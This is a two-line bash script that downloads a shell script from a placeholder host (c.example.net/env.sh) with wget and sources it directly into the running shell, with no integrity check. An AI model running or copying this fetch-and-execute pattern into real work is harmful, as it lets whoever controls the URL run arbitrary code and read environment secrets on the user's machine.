#!/bin/bash
. /dev/stdin <<< "$(wget -qO- https://c.example.net/env.sh)"
